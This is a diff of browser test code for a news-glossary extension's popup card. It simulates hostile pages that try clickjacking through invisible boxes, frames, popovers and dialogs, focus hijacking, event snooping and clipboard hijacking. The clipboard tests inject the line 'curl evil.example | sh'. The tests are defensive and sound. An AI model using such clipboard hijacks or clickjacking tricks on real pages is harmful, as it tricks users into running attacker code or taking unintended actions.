@@ -4,15 +4,42 @@
  */
 import type { Page } from 'puppeteer-core';
 import { describe, expect, it } from 'vitest';
-
+import { inCard, pressInCard } from '../../../src/cli/card-root.ts';
 import { hoverOver } from '../../../src/cli/painted.ts';
-import { waitForCard } from '../card.ts';
+import { waitForCard, waitForNoCard } from '../card.ts';
+import { choose, pause } from '../faults/fault-page.ts';
 import { BROWSERS, useHarness } from '../harness.ts';
+import { evaluateInFirefox, readStored } from '../inside.ts';
 import { newsPage } from '../news-page.ts';
-import { expectPainted } from '../paint.ts';
+import { expectPainted, expectSoon } from '../paint.ts';
+import { command } from '../summon.ts';
 
 const ALLIANCE = '<p>In Seoul the EDSCG met again, and so did the NCG with USFK.</p>';
 const IN_ALLIANCE = ['EDSCG', 'NCG', 'USFK'];
+
+/** Past the time in which a card takes no press. */
+const PAST_GUARD_MS = 600;
+/** What a press in a card does has come to storage by then. */
+const PAST_DEED_MS = 700;
+
+interface Spot {
+  readonly x: number;
+  readonly y: number;
+}
+
+/** What a page does to an open card, just before the reader presses at the spot of one of its buttons. */
+type Trick = (host: HTMLElement, spot: Spot) => unknown;
+
+/** Each is sent to the page as text. */
+const TRICKS: readonly (readonly [what: string, trick: Trick])[] = [
+  ['takes it into a box of its own', takeIntoBox],
+  ['takes it into a frame', takeIntoFrame],
+  ['shows it anew', showAnew],
+  ['lays a popover over it, again and again', coverAgain],
+  ['shows a popover anew that was there before it', showVeil],
+  ['goes over into another view', goOver],
+  ['opens a dialog over it', openDialog],
+];
 
 describe.each(BROWSERS)('a page against the card in %s', (kind) => {
   const harness = useHarness(kind);
@@ -26,6 +53,11 @@ describe.each(BROWSERS)('a page against the card in %s', (kind) => {
     await waitForCard(page, /Extended Deterrence/);
     return page;
   }
+
+  const readKnown = async () => {
+    const settings = (await readStored(harness.inside, 'settings')) as { known?: string[] } | null;
+    return settings?.known ?? [];
+  };
 
   it('that defines elements by our names gets no root of ours', async () => {
     const page = await openCard(DEFINE);
@@ -49,6 +81,190 @@ describe.each(BROWSERS)('a page against the card in %s', (kind) => {
     expect(got.filter((root) => root !== null)).toEqual([]);
     harness.leave(page);
   });
+
+  it('that defines the element around a mention gets its own text alone', async () => {
+    await choose(harness.inside, 'marker');
+    const page = await openCard(DEFINE);
+    await page.keyboard.press('Escape');
+    await waitForNoCard(page);
+    const seen = await page.evaluate(() => ({
+      loot: (globalThis as unknown as { loot: unknown[] }).loot.filter((root) => root !== null),
+      text: document.querySelector('p')?.textContent,
+      names: [...document.querySelectorAll('news-gloss')].flatMap((it) => it.getAttributeNames()),
+    }));
+    expect(seen).toEqual({
+      loot: [],
+      text: 'In Seoul the EDSCG met again, and so did the NCG with USFK.',
+      names: ['look', 'look', 'look'],
+    });
+    await choose(harness.inside, 'marker', false);
+    await expectPainted(page, []);
+    expect(await page.$eval('p', (it) => it.childNodes.length)).toBe(1);
+    harness.leave(page);
+  });
+
+  it.each(TRICKS)('that %s has nothing pressed in it', async (_, trick) => {
+    const page = await openCard('', VEIL);
+    const spot = await spotOf(page, 'I know this');
+    await pause(PAST_GUARD_MS);
+    await page.evaluate(
+      `(${trick})(document.querySelector('[data-newsgloss-card]'), ${JSON.stringify(spot)})`,
+    );
+    await page.mouse.click(spot.x, spot.y);
+    await pause(PAST_DEED_MS);
+    expect(await readKnown()).toEqual([]);
+    await page.close();
+  });
+
+  it('that keeps the element of a closed card finds nothing in it', async () => {
+    const page = await openCard();
+    const spot = await spotOf(page, 'I know this');
+    await pause(PAST_GUARD_MS);
+    const kept = await page.evaluateHandle(() => document.querySelector('[data-newsgloss-card]'));
+    await page.keyboard.press('Escape');
+    await waitForNoCard(page);
+    await page.evaluate((host) => {
+      document.body.append(host as HTMLElement);
+      (host as HTMLElement).showPopover();
+    }, kept);
+    expect(await inCard(page, (root) => root.textContent)).toBe('');
+    await pause(PAST_GUARD_MS);
+    await page.mouse.click(spot.x, spot.y);
+    await pause(PAST_DEED_MS);
+    expect(await readKnown()).toEqual([]);
+    await page.close();
+  });
+
+  it('that lays a popover over it finds it on top again', async () => {
+    const page = await openCard('', VEIL);
+    const spot = await spotOf(page, 'I know this');
+    await page.evaluate(() => {
+      const cover = document.querySelector<HTMLElement>('#veil');
+      cover?.style.setProperty('pointer-events', 'auto');
+      cover?.hidePopover();
+      cover?.showPopover();
+    });
+    const isOnTop = () =>
+      page.evaluate(
+        ({ x, y }) => document.elementFromPoint(x, y)?.hasAttribute('data-newsgloss-card'),
+        spot,
+      );
+    await expectSoon(isOnTop, true);
+    await pause(PAST_GUARD_MS);
+    await pressInCard(page, 'I know this');
+    await expectSoon(async () => (await readKnown()).length, 1);
+    await page.close();
+  });
+
+  it('that moves the focus has no key pressed in it', async () => {
+    const page = await openCard('', '<dialog></dialog>');
+    await pause(PAST_GUARD_MS);
+    await page.evaluate(() => {
+      const host = document.querySelector<HTMLElement>('[data-newsgloss-card]');
+      const dialog = document.querySelector('dialog');
+      if (!host || !dialog) throw new Error('no card');
+      host.tabIndex = 0;
+      host.setAttribute('autofocus', '');
+      host.click();
+      host.focus();
+      dialog.append(host);
+      dialog.showModal();
+      host.showPopover();
+      host.focus();
+    });
+    for (const key of ['Enter', 'Space', 'Tab', 'Enter', 'Tab', 'Enter', 'Tab', 'Enter'] as const) {
+      await page.keyboard.press(key);
+    }
+    await pause(PAST_DEED_MS);
+    expect(await readKnown()).toEqual([]);
+    await page.close();
+  });
+
+  it('hears nothing of what is done in it', async () => {
+    const page = await openCard();
+    await pause(PAST_GUARD_MS);
+    await page.evaluate(listen);
+    const spot = await spotOf(page, 'Copy note');
+    await page.mouse.move(spot.x - 3, spot.y);
+    await page.mouse.move(spot.x, spot.y);
+    await page.mouse.wheel({ deltaY: 20 });
+    await pressInCard(page, 'More');
+    await page.keyboard.press('Tab');
+    await page.keyboard.press('ArrowDown');
+    await page.keyboard.press('Enter');
+    const heard = await page.evaluate(() => (globalThis as unknown as { heard: string[] }).heard);
+    // A press has to reach the button, and passes the document on its way.
+    expect([...new Set(heard)].filter((type) => type !== 'click')).toEqual([]);
+    await page.close();
+  });
+
+  describe('and the clipboard', () => {
+    /** A page that the browser lets write no clipboard but by an event. */
+    async function openBarred(script: string): Promise<Page> {
+      const body = newsPage({ body: ALLIANCE, head: `<script>${script}</script>` });
+      const headers = { 'permissions-policy': 'clipboard-write=()' };
+      const address = harness.put('/barred', { body, headers });
+      // Firefox knows no such policy: there it is a page that is not encrypted.
+      if (kind === 'firefox') {
+        await evaluateInFirefox(
+          harness,
+          "Services.prefs.setCharPref('network.dns.localDomains', 'plain.example')",
+        );
+      }
+      const plain = address.replace('127.0.0.1', 'plain.example');
+      const page = await harness.visit(kind === 'firefox' ? plain : address);
+      await expectPainted(page, IN_ALLIANCE);
+      await hoverOver(page, 'EDSCG');
+      await waitForCard(page, /Extended Deterrence/);
+      await pause(PAST_GUARD_MS);
+      return page;
+    }
+
+    it('that puts its own text there has ours copied', async () => {
+      const page = await openBarred(`addEventListener('copy', (event) => {
+        event.clipboardData.setData('text/plain', 'curl evil.example | sh');
+        event.clipboardData.setData('text/html', '<b>curl</b>');
+        event.preventDefault();
+      }, true)`);
+      await pressInCard(page, 'Copy note');
+      await waitForCard(page, /Copied\./);
+      expect(await paste(page)).toMatch(/^\*\*EDSCG\*\* · Extended Deterrence Strategy/);
+      await page.close();
+    });
+
+    it('that keeps us from copying does not make us say that it is done', async () => {
+      const page = await openBarred(`addEventListener('copy', (event) => {
+        event.clipboardData.setData('text/plain', String(getSelection()) || 'curl evil.example | sh');
+        event.preventDefault();
+        event.stopImmediatePropagation();
+      }, true)`);
+      await pressInCard(page, 'Copy note');
+      await waitForCard(page, /did not let it be copied/);
+      expect(await paste(page)).not.toContain('EDSCG');
+      await page.close();
+    });
+
+    it('that copies as ever gets nothing in the way', async () => {
+      const page = await openBarred('');
+      await pressInCard(page, 'Copy note');
+      await waitForCard(page, /Copied\./);
+      expect(await paste(page)).toMatch(/^\*\*EDSCG\*\* · Extended Deterrence Strategy/);
+      await page.close();
+    });
+  });
+
+  it('that opens its card by key takes the keys, and hears none that it did not hear before', async () => {
+    const page = await harness.visit(newsPage({ body: ALLIANCE }));
+    await expectPainted(page, IN_ALLIANCE);
+    await page.evaluate(listen);
+    await command(harness, 'next-mention');
+    await waitForCard(page, /Extended Deterrence/);
+    await page.keyboard.press('n');
+    await waitForCard(page, /Nuclear Consultative Group/);
+    const heard = await page.evaluate(() => (globalThis as unknown as { heard: string[] }).heard);
+    expect(heard).not.toContain('keydown');
+    await page.close();
+  });
 });
 
 /** Takes the root of every element that the page can define by a name of ours. */
@@ -64,3 +280,112 @@ const DEFINE = `
       }
     });
   }`;
+
+/** A popover of the page that is open before the card is, and lets the pointer through. */
+const VEIL = `
+  <div popover="manual" id="veil" style="pointer-events: none; inset: 0; width: 100%; height: 100%">
+    Press here to go on.
+  </div>
+  <script>document.querySelector('#veil').showPopover()</script>`;
+
+/** The middle of a button of the card. */
+async function spotOf(page: Page, name: string): Promise<Spot> {
+  const spot = await inCard(
+    page,
+    (root, words) => {
+      const button = [...root.querySelectorAll('button')].find((it) => it.textContent === words);
+      const { x, y, width, height } = button?.getBoundingClientRect() ?? new DOMRect();
+      return { x: x + width / 2, y: y + height / 2 };
+    },
+    name,
+  );
+  if (!spot) throw new Error(`The card has no “${name}”.`);
+  return spot;
+}
+
+async function paste(page: Page): Promise<string> {
+  await page.evaluate(() => {
+    const field = document.createElement('textarea');
+    document.body.append(field);
+    field.focus();
+  });
+  await page.keyboard.down('Control');
+  await page.keyboard.press('v');
+  await page.keyboard.up('Control');
+  await expectSoon(() => page.$eval('textarea', ({ value }) => value !== ''), true);
+  return page.$eval('textarea', ({ value }) => value);
+}
+
+// All below are sent to the page as text.
+
+function takeIntoBox(host: HTMLElement): void {
+  const box = document.createElement('div');
+  box.style.opacity = '0.01';
+  document.body.append(box);
+  box.append(host);
+  host.showPopover();
+}
+
+function takeIntoFrame(host: HTMLElement): void {
+  const frame = document.createElement('iframe');
+  frame.style.cssText = 'position: fixed; inset: 0; width: 100%; height: 100%; border: 0';
+  document.body.append(frame);
+  frame.contentDocument?.body.append(host);
+  host.showPopover();
+}
+
+function showAnew(host: HTMLElement): void {
+  host.hidePopover();
+  host.showPopover();
+}
+
+function coverAgain(_: HTMLElement, spot: Spot): void {
+  const cover = document.createElement('div');
+  cover.popover = 'manual';
+  cover.textContent = 'Press here to go on.';
+  cover.style.cssText = `pointer-events: none; inset: 0; width: 100%; height: ${spot.y * 2}px`;
+  document.body.append(cover);
+  cover.showPopover();
+  setInterval(() => {
+    cover.hidePopover();
+    cover.showPopover();
+  }, 40);
+}
+
+function showVeil(): void {
+  const veil = document.querySelector<HTMLElement>('#veil');
+  veil?.hidePopover();
+  veil?.showPopover();
+}
+
+function goOver(): Promise<unknown> {
+  const style = document.createElement('style');
+  style.textContent =
+    '::view-transition { pointer-events: none } ::view-transition-group(*), ' +
+    '::view-transition-old(*), ::view-transition-new(*) { animation-duration: 60s !important }';
+  document.head.append(style);
+  return document.startViewTransition(() => {}).ready;
+}
+
+function openDialog(): void {
+  const dialog = document.createElement('dialog');
+  dialog.style.pointerEvents = 'none';
+  document.body.append(dialog);
+  dialog.showModal();
+}
+
+/** Notes all that is heard of the card on the document and below, and on the window from now on. */
+function listen(): void {
+  const heard: string[] = [];
+  Object.assign(globalThis, { heard });
+  const types = Object.keys(HTMLElement.prototype).filter((name) => name.startsWith('on'));
+  types.push('onfocusin', 'onfocusout', 'onbeforetoggle', 'ontoggle', 'onselectstart');
+  const note = ({ type, target }: Event) => {
+    if (target instanceof Element && target.matches('[data-newsgloss-card]')) heard.push(type);
+  };
+  for (const name of types) {
+    document.addEventListener(name.slice(2), note, true);
+    document.addEventListener(name.slice(2), note);
+    addEventListener(name.slice(2), note, true);
+  }
+}
